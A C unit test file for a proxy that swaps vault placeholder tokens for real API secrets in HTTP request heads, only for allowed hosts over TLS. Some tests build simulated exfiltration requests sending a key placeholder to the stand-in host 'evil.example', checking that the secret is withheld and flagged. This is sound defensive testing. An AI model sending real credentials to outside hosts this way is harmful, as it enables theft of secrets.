/*
 * swap over a real vault (SQLite file + master key in a temp dir) and the
 * real HTTP/1.1 parser: what reaches upstream for each verdict.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>
#include <sodium.h>

#include "http1.h"
#include "swap.h"
#include "vault.h"

struct fixture {
	char dir[64];
	char key_path[96];
	struct master_key *key;
	struct vault *vault;
	struct scope_walk_attribution sb1, sb2;
	char ph1[VAULT_PLACEHOLDER_LEN + 1]; /* openai_key, sandbox sb1 */
	char ph2[VAULT_PLACEHOLDER_LEN + 1]; /* other_key, sandbox sb2 */
};

static const char OPENAI_VALUE[] = "sk-live-REAL-VALUE-0001";

static void set_secret(struct fixture *f, const char *sandbox, const char *name,
		       const char *env, const char *value, const char *const *hosts,
		       size_t n_hosts, char *ret_placeholder)
{
	struct vault_secret_spec spec = {
		.ref = { .tenant_id = "t1", .scope = SCOPE_WALK_SANDBOX,
			 .scope_id = sandbox, .name = name },
		.expose_as_env = env,
		.hosts = hosts,
		.n_hosts = n_hosts,
		.value = (const uint8_t *)value,
		.value_len = strlen(value),
	};
	struct vault_set_result res;

	assert_int_equal(vault_secret_set(f->vault, &spec, &res), 0);
	memcpy(ret_placeholder, res.placeholder, sizeof(res.placeholder));
}

static int setup(void **state)
{
	static const char *const openai_hosts[] = { "api.openai.com" };
	struct fixture *f = calloc(1, sizeof(*f));
	char err[256];

	assert_non_null(f);
	strcpy(f->dir, "/tmp/miosa-test-swap-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->key_path, sizeof(f->key_path), "%s/master.key", f->dir);
	assert_int_equal(master_key_load_or_create(f->key_path, &f->key, err, sizeof(err)), 1);
	assert_int_equal(vault_open(f->dir, f->key, &f->vault, err, sizeof(err)), 0);
	f->sb1 = (struct scope_walk_attribution){ .sandbox_id = "sb1", .tenant_id = "t1" };
	f->sb2 = (struct scope_walk_attribution){ .sandbox_id = "sb2", .tenant_id = "t1" };
	set_secret(f, "sb1", "openai_key", "OPENAI_API_KEY", OPENAI_VALUE, openai_hosts, 1,
		   f->ph1);
	set_secret(f, "sb2", "other_key", "OTHER_KEY", "other-value", NULL, 0, f->ph2);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	char cmd[128];

	vault_close(f->vault);
	master_key_free(f->key);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", f->dir);
	assert_int_equal(system(cmd), 0);
	free(f);
	return 0;
}

/* Parse req (a complete head) and swap it for dest_host. */
static int run_swap(struct fixture *f, const struct scope_walk_attribution *a,
		    const char *req, const char *dest_host, bool is_tls,
		    struct swap_result *ret)
{
	struct http1_parser p;
	size_t head_len;

	assert_int_equal(http1_parser_init_request(&p, NULL), 0);
	assert_int_equal(http1_parse(&p, (const uint8_t *)req, strlen(req), &head_len),
			 HTTP1_DONE);
	assert_int_equal(head_len, strlen(req));
	return swap_request_head(f->vault, a, &p.head, (const uint8_t *)req, dest_host,
				 is_tls, ret);
}

static void expect_head(const struct swap_result *r, const char *want)
{
	assert_int_equal(r->head_len, strlen(want));
	assert_memory_equal(r->head, want, r->head_len);
}

static void test_header_and_query_placeholders_are_swapped_for_allowed_host(void **state)
{
	struct fixture *f = *state;
	char req[512], want[512];
	struct swap_result r;

	snprintf(req, sizeof(req),
		 "GET /v1/models?api_key=%s&x=1 HTTP/1.1\r\nHost: api.openai.com\r\n"
		 "Authorization: Bearer %s\r\nX-Keep:  spaced \r\n\r\n", f->ph1, f->ph1);
	snprintf(want, sizeof(want),
		 "GET /v1/models?api_key=%s&x=1 HTTP/1.1\r\nHost: api.openai.com\r\n"
		 "Authorization: Bearer %s\r\nX-Keep:  spaced \r\n\r\n",
		 OPENAI_VALUE, OPENAI_VALUE);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, want);
	assert_int_equal(r.n_placeholders, 2);
	assert_int_equal(r.n_swapped, 2);
	assert_int_equal(r.swapped.n, 1);
	assert_string_equal(r.swapped.name[0], "openai_key");
	assert_int_equal(r.flagged.n, 0);
	swap_result_release(&r);
	assert_null(r.head);
}

static void test_placeholder_sent_to_other_host_is_kept_and_flagged(void **state)
{
	struct fixture *f = *state;
	char req[512];
	struct swap_result r;

	snprintf(req, sizeof(req),
		 "POST /collect HTTP/1.1\r\nHost: evil.example\r\nX-Api-Key: %s\r\n"
		 "Content-Length: 0\r\n\r\n", f->ph1);
	assert_int_equal(run_swap(f, &f->sb1, req, "evil.example", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_swapped, 0);
	assert_int_equal(r.swapped.n, 0);
	assert_int_equal(r.flagged.n, 1);
	assert_string_equal(r.flagged.name[0], "openai_key");
	assert_null(memmem(r.head, r.head_len, OPENAI_VALUE, strlen(OPENAI_VALUE)));
	swap_result_release(&r);
}

static void test_cleartext_request_is_not_swapped_by_default(void **state)
{
	struct fixture *f = *state;
	char req[512];
	struct swap_result r;

	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer %s\r\n\r\n",
		 f->ph1);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", false, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_swapped, 0);
	assert_int_equal(r.n_unresolved, 1);
	swap_result_release(&r);
}

static void test_unknown_and_foreign_placeholders_pass_through_unchanged(void **state)
{
	struct fixture *f = *state;
	char req[512];
	struct swap_result r;

	/* ph2 belongs to sandbox sb2; the other token was never issued */
	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nA: %s\r\n"
		 "B: miosa-tok-0123456789abcdef0123456789abcdef\r\n\r\n", f->ph2);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 2);
	assert_int_equal(r.n_swapped, 0);
	assert_int_equal(r.n_unresolved, 2);
	assert_int_equal(r.flagged.n, 0);
	assert_null(memmem(r.head, r.head_len, "other-value", 11));
	swap_result_release(&r);
}

static void test_rotation_takes_effect_on_next_request(void **state)
{
	static const char NEW_VALUE[] = "sk-live-ROTATED-0002";
	struct fixture *f = *state;
	struct vault_secret_ref ref = { .tenant_id = "t1", .scope = SCOPE_WALK_SANDBOX,
					.scope_id = "sb1", .name = "openai_key" };
	char req[512];
	struct swap_result r;
	uint32_t version;

	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer %s\r\n\r\n",
		 f->ph1);
	assert_int_equal(vault_secret_rotate(f->vault, &ref, (const uint8_t *)NEW_VALUE,
					     strlen(NEW_VALUE), &version), 0);
	assert_int_equal(version, 2);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	assert_non_null(memmem(r.head, r.head_len, NEW_VALUE, strlen(NEW_VALUE)));
	assert_null(memmem(r.head, r.head_len, OPENAI_VALUE, strlen(OPENAI_VALUE)));
	swap_result_release(&r);
}

static void test_value_in_query_is_percent_encoded_in_header_verbatim(void **state)
{
	struct fixture *f = *state;
	char ph[VAULT_PLACEHOLDER_LEN + 1], req[512], want[512];
	struct swap_result r;

	set_secret(f, "sb1", "odd_key", "ODD_KEY", "a b&c=d/+", NULL, 0, ph);
	snprintf(req, sizeof(req), "GET /q?k=%s HTTP/1.1\r\nHost: h.example\r\nK: %s\r\n\r\n",
		 ph, ph);
	snprintf(want, sizeof(want),
		 "GET /q?k=a%%20b%%26c%%3Dd%%2F%%2B HTTP/1.1\r\nHost: h.example\r\n"
		 "K: a b&c=d/+\r\n\r\n");
	assert_int_equal(run_swap(f, &f->sb1, req, "h.example", true, &r), 0);
	expect_head(&r, want);
	swap_result_release(&r);
}

static void test_token_with_extra_hex_digit_is_not_a_placeholder(void **state)
{
	struct fixture *f = *state;
	char req[512];
	struct swap_result r;

	snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nHost: api.openai.com\r\nA: %sf\r\n\r\n",
		 f->ph1);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 0);
	swap_result_release(&r);
	assert_false(swap_is_placeholder_at((const uint8_t *)"miosa-tok-0123456789ABCDEF0123456789abcdef",
					    42));
	assert_true(swap_is_placeholder_at((const uint8_t *)f->ph1, strlen(f->ph1)));
}

static void test_placeholder_in_host_header_is_left_alone(void **state)
{
	struct fixture *f = *state;
	char req[512];
	struct swap_result r;

	/* Host is never rewritten; the placeholder there must not fail the
	 * request nor be swapped, while the one in X-Key still is. */
	snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nHost: %s\r\nX-Key: %s\r\n\r\n",
		 f->ph1, f->ph1);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	assert_int_equal(r.n_placeholders, 1);
	assert_int_equal(r.n_swapped, 1);
	assert_non_null(memmem(r.head, r.head_len, f->ph1, strlen(f->ph1)));
	swap_result_release(&r);
}

static void test_too_many_placeholders_fail_closed(void **state)
{
	struct fixture *f = *state;
	size_t cap = 128 + (SWAP_MAX_PLACEHOLDERS + 1) * (VAULT_PLACEHOLDER_LEN + 8);
	char *req = malloc(cap);
	size_t n;
	struct swap_result r = { 0 };

	assert_non_null(req);
	n = (size_t)snprintf(req, cap, "GET / HTTP/1.1\r\nHost: api.openai.com\r\nA: ");
	for (unsigned i = 0; i <= SWAP_MAX_PLACEHOLDERS; i++)
		n += (size_t)snprintf(req + n, cap - n, "%s ", f->ph1);
	n += (size_t)snprintf(req + n, cap - n, "x\r\n\r\n");
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), -E2BIG);
	assert_null(r.head);
	free(req);
}

/* base64 (RFC 4648, padded) of plain into out (NUL-terminated). */
static void b64(const char *plain, size_t plain_len, char *out, size_t out_size)
{
	assert_true(out_size >= sodium_base64_ENCODED_LEN(plain_len,
							  sodium_base64_VARIANT_ORIGINAL));
	sodium_bin2base64(out, out_size, (const unsigned char *)plain, plain_len,
			  sodium_base64_VARIANT_ORIGINAL);
}

/* Decode the token after "<field>: <scheme> " in the upstream head; the
 * head must otherwise be prefix + token + suffix. */
static void expect_basic_pair(const struct swap_result *r, const char *prefix,
			      const char *suffix, const char *want_pair)
{
	size_t pre = strlen(prefix), suf = strlen(suffix), tok_len, pair_len;
	unsigned char pair[8192];

	assert_true(r->head_len > pre + suf);
	assert_memory_equal(r->head, prefix, pre);
	assert_memory_equal(r->head + r->head_len - suf, suffix, suf);
	tok_len = r->head_len - pre - suf;
	assert_int_equal(sodium_base642bin(pair, sizeof(pair), (const char *)r->head + pre,
					   tok_len, NULL, &pair_len, NULL,
					   sodium_base64_VARIANT_ORIGINAL), 0);
	assert_int_equal(pair_len, strlen(want_pair));
	assert_memory_equal(pair, want_pair, pair_len);
}

/* Swap "user:pass" (built by the caller) sent as Basic in field to api.openai.com. */
static void check_basic_swapped(struct fixture *f, const char *field, const char *scheme,
				const char *pair, const char *want_pair, size_t n_ph)
{
	char tok[512], req[1024], prefix[256];
	const char *suffix = "\r\nX-After: 1\r\n\r\n";
	struct swap_result r;

	b64(pair, strlen(pair), tok, sizeof(tok));
	snprintf(prefix, sizeof(prefix), "GET / HTTP/1.1\r\nHost: api.openai.com\r\n%s: %s",
		 field, scheme);
	snprintf(req, sizeof(req), "%s%s%s", prefix, tok, suffix);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_basic_pair(&r, prefix, suffix, want_pair);
	assert_int_equal(r.n_placeholders, n_ph);
	assert_int_equal(r.n_swapped, n_ph);
	assert_int_equal(r.n_unresolved, 0);
	assert_int_equal(r.swapped.n, 1);
	assert_string_equal(r.swapped.name[0], "openai_key");
	assert_null(memmem(r.head, r.head_len, f->ph1, strlen(f->ph1)));
	swap_result_release(&r);
}

static void test_basic_password_placeholder_is_swapped_in_decoded_pair(void **state)
{
	struct fixture *f = *state;
	char pair[128], want[128];

	snprintf(pair, sizeof(pair), "user:%s", f->ph1);
	snprintf(want, sizeof(want), "user:%s", OPENAI_VALUE);
	check_basic_swapped(f, "Authorization", "Basic ", pair, want, 1);
}

static void test_basic_user_placeholder_is_swapped_in_decoded_pair(void **state)
{
	struct fixture *f = *state;
	char pair[128], want[128];

	snprintf(pair, sizeof(pair), "%s:pass", f->ph1);
	snprintf(want, sizeof(want), "%s:pass", OPENAI_VALUE);
	check_basic_swapped(f, "Proxy-Authorization", "Basic ", pair, want, 1);
}

static void test_basic_placeholders_on_both_sides_are_swapped_in_one_edit(void **state)
{
	struct fixture *f = *state;
	char pair[128], want[128];

	snprintf(pair, sizeof(pair), "%s:%s", f->ph1, f->ph1);
	snprintf(want, sizeof(want), "%s:%s", OPENAI_VALUE, OPENAI_VALUE);
	check_basic_swapped(f, "Authorization", "Basic ", pair, want, 2);
}

static void test_basic_lowercase_scheme_and_extra_spaces_are_accepted(void **state)
{
	struct fixture *f = *state;
	char pair[128], want[128];

	snprintf(pair, sizeof(pair), "user:%s", f->ph1);
	snprintf(want, sizeof(want), "user:%s", OPENAI_VALUE);
	check_basic_swapped(f, "authorization", "basic   ", pair, want, 1);
}

static void test_basic_for_disallowed_host_is_kept_and_flagged(void **state)
{
	struct fixture *f = *state;
	char pair[128], tok[128], req[512];
	struct swap_result r;

	snprintf(pair, sizeof(pair), "user:%s", f->ph1);
	b64(pair, strlen(pair), tok, sizeof(tok));
	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Basic %s\r\n\r\n", tok);
	assert_int_equal(run_swap(f, &f->sb1, req, "evil.example", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 1);
	assert_int_equal(r.n_swapped, 0);
	assert_int_equal(r.n_unresolved, 1);
	assert_int_equal(r.swapped.n, 0);
	assert_int_equal(r.flagged.n, 1);
	assert_string_equal(r.flagged.name[0], "openai_key");
	swap_result_release(&r);
}

static void test_basic_with_malformed_base64_is_left_untouched(void **state)
{
	struct fixture *f = *state;
	char pair[128], tok[128], req[512];
	const char *bad[3];
	struct swap_result r;

	/* "user:" + placeholder is 47 bytes: one '=' of padding */
	snprintf(pair, sizeof(pair), "user:%s", f->ph1);
	b64(pair, strlen(pair), tok, sizeof(tok));
	assert_int_equal(tok[strlen(tok) - 1], '=');
	tok[strlen(tok) - 1] = '\0'; /* padding missing */
	bad[0] = tok;
	bad[1] = "dXNlcjpw!XNz";     /* character outside the alphabet */
	bad[2] = "dXNlcjpwYXN=";     /* non-zero trailing bits ("user:pas" + 'N'...) */
	for (size_t i = 0; i < 3; i++) {
		snprintf(req, sizeof(req),
			 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Basic %s\r\n\r\n",
			 bad[i]);
		assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
		expect_head(&r, req);
		assert_int_equal(r.n_placeholders, 0);
		assert_int_equal(r.n_swapped, 0);
		swap_result_release(&r);
	}
}

static void test_basic_over_decoded_cap_is_left_untouched(void **state)
{
	struct fixture *f = *state;
	size_t pair_len = 4097, cap = 16384;
	char *pair = malloc(pair_len + 1), *tok = malloc(cap), *req = malloc(cap);
	struct swap_result r;

	assert_non_null(pair);
	assert_non_null(tok);
	assert_non_null(req);
	memset(pair, 'u', pair_len);
	snprintf(pair + pair_len - VAULT_PLACEHOLDER_LEN - 1, VAULT_PLACEHOLDER_LEN + 2, ":%s",
		 f->ph1);
	b64(pair, pair_len, tok, cap);
	snprintf(req, cap,
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Basic %s\r\n\r\n", tok);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 0);
	swap_result_release(&r);

	/* one byte less is within the cap and swapped */
	b64(pair + 1, pair_len - 1, tok, cap);
	snprintf(req, cap,
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Basic %s\r\n\r\n", tok);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	assert_int_equal(r.n_placeholders, 1);
	assert_int_equal(r.n_swapped, 1);
	swap_result_release(&r);
	free(pair);
	free(tok);
	free(req);
}

static void test_basic_without_placeholder_is_untouched_byte_for_byte(void **state)
{
	struct fixture *f = *state;
	const char *req = "GET / HTTP/1.1\r\nHost: api.openai.com\r\n"
			  "Authorization: BASIC  dXNlcjpwYXNz\r\n\r\n";
	struct swap_result r;

	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 0);
	swap_result_release(&r);
}

static void test_basic_in_other_header_is_not_decoded(void **state)
{
	struct fixture *f = *state;
	char pair[128], tok[128], req[512];
	struct swap_result r;

	snprintf(pair, sizeof(pair), "user:%s", f->ph1);
	b64(pair, strlen(pair), tok, sizeof(tok));
	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Creds: Basic %s\r\n\r\n", tok);
	assert_int_equal(run_swap(f, &f->sb1, req, "api.openai.com", true, &r), 0);
	expect_head(&r, req);
	assert_int_equal(r.n_placeholders, 0);
	swap_result_release(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(
			test_header_and_query_placeholders_are_swapped_for_allowed_host, setup,
			teardown),
		cmocka_unit_test_setup_teardown(
			test_placeholder_sent_to_other_host_is_kept_and_flagged, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cleartext_request_is_not_swapped_by_default,
						setup, teardown),
		cmocka_unit_test_setup_teardown(
			test_unknown_and_foreign_placeholders_pass_through_unchanged, setup,
			teardown),
		cmocka_unit_test_setup_teardown(test_rotation_takes_effect_on_next_request, setup,
						teardown),
		cmocka_unit_test_setup_teardown(
			test_value_in_query_is_percent_encoded_in_header_verbatim, setup, teardown),
		cmocka_unit_test_setup_teardown(
			test_token_with_extra_hex_digit_is_not_a_placeholder, setup, teardown),
		cmocka_unit_test_setup_teardown(test_placeholder_in_host_header_is_left_alone,
						setup, teardown),
		cmocka_unit_test_setup_teardown(test_too_many_placeholders_fail_closed, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_password_placeholder_is_swapped_in_decoded_pair, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_user_placeholder_is_swapped_in_decoded_pair, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_placeholders_on_both_sides_are_swapped_in_one_edit, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_lowercase_scheme_and_extra_spaces_are_accepted, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_for_disallowed_host_is_kept_and_flagged, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_with_malformed_base64_is_left_untouched, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_over_decoded_cap_is_left_untouched, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_without_placeholder_is_untouched_byte_for_byte, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_basic_in_other_header_is_not_decoded, setup,
						teardown),
	};
	if (sodium_init() < 0)
		return 1;
	return cmocka_run_group_tests(tests, NULL, NULL);
}
